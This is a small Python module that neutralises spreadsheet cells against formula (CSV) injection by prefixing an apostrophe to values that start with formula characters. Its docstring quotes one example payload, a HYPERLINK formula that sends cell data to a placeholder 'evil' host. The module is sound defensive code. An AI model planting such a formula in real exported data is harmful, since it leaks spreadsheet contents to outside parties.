"""Cells that are safe to open in a spreadsheet.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
return, which some programs skip before reading one of those) is run as a
formula by Excel, LibreOffice and Google Sheets: a title such as
``=HYPERLINK("http://evil/?"&A1)`` would leak the sheet or run a command.
Such cells get a leading apostrophe, which spreadsheets read as "this is
text" and do not show (OWASP's advice for CSV injection).
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value) -> str:
    """``value`` as text a spreadsheet shows and never evaluates."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def neutralise_row(values) -> list[str]:
    return [neutralise(v) for v in values]
